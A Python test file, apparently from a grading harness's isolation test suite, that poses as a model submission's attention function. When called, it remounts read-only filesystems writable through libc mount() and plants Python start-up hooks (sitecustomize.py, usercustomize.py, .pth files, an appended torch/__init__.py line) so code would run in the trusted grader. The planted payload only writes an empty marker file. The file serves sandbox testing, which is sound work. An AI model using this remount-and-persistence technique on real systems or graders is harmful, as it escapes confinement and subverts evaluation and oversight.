"""Isolation: remounts the read-only filesystems writable, then plants code where Python runs it at start-up.

If the sandbox lets it, the planted files land in the host's Python installation (sitecustomize.py,
usercustomize.py, a .pth file, a line in torch/__init__.py, a file in every folder on sys.path) and
would run in the trusted grader. Everything written carries KIT_ISOLATION_MARKER so that the test
finds and removes it; the planted code does nothing unless KIT_ISOLATION_ARMED is set in the process
that runs it, and then only leaves an empty evidence file /tmp/KIT_ISOLATION_MARKER-planted-*.
"""

import ctypes
import os
import site
import sys

import torch

MARKER = "KIT_ISOLATION_MARKER"
MS_REMOUNT = 32
MS_BIND = 4096
PLANTED = (
    f"# {MARKER}: planted by tests/kit/submissions/isolation/remount_and_plant; harmless, remove me\n"
    "import os as _kit_os\n"
    "if _kit_os.environ.get('KIT_ISOLATION_ARMED'):\n"
    f"    open('/tmp/{MARKER}-planted-code-ran-%d' % _kit_os.getpid(), 'w').close()\n"
)
PTH_LINE = (
    "import os; os.environ.get('KIT_ISOLATION_ARMED') and "
    f"open('/tmp/{MARKER}-planted-pth-ran-%d' % os.getpid(), 'w').close()  # {MARKER}\n"
)
_done = {}


def _mount_points():
    points = []
    try:
        with open("/proc/self/mountinfo") as mountinfo:
            points = [line.split()[4] for line in mountinfo if len(line.split()) > 4]
    except OSError:
        pass
    return points


def _remount(paths):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_void_p]
    remounted = []
    for path in dict.fromkeys(paths):
        for flags, how in ((MS_REMOUNT | MS_BIND, "bind"), (MS_REMOUNT, "sb")):
            if libc.mount(None, path.encode(), None, flags, None) == 0:
                remounted.append(f"{path}({how})")
    return remounted


def _write(path, text, mode):
    try:
        with open(path, mode) as out:
            out.write(text)
        return True
    except OSError:
        return False


def _attack():
    site_dirs = [*site.getsitepackages(), site.getusersitepackages()]
    torch_dir = os.path.dirname(torch.__file__)
    stdlib = os.path.dirname(os.__file__)
    folders = [p for p in dict.fromkeys([*sys.path, *site_dirs, torch_dir, stdlib, sys.prefix, sys.base_prefix,
                                         "/", "/usr", "/usr/local", os.getcwd()]) if p and os.path.isdir(p)]
    remounted = _remount([*_mount_points(), *folders])
    planted = []
    for folder in folders:
        if _write(os.path.join(folder, f"{MARKER}_planted.py"), PLANTED, "w"):
            planted.append(folder)
    for folder in dict.fromkeys([*site_dirs, stdlib]):
        for name in ("sitecustomize.py", "usercustomize.py"):
            path = os.path.join(folder, name)
            # A new file when there is none; an extra (harmless) block at the end of one that exists.
            if _write(path, PLANTED, "x") or (os.path.exists(path) and _write(path, "\n" + PLANTED, "a")):
                planted.append(path)
        if _write(os.path.join(folder, f"{MARKER}.pth"), PTH_LINE, "w"):
            planted.append(f"{folder}/{MARKER}.pth")
    if _write(os.path.join(torch_dir, "__init__.py"), f"\n# {MARKER}\n", "a"):
        planted.append("torch/__init__.py")
    return remounted, planted


def attention(query, key, value, dropout=None, mask=None):
    if not _done:
        _done["result"] = _attack()
    remounted, planted = _done["result"]
    raise RuntimeError(f"remounted={remounted} planted={planted}")
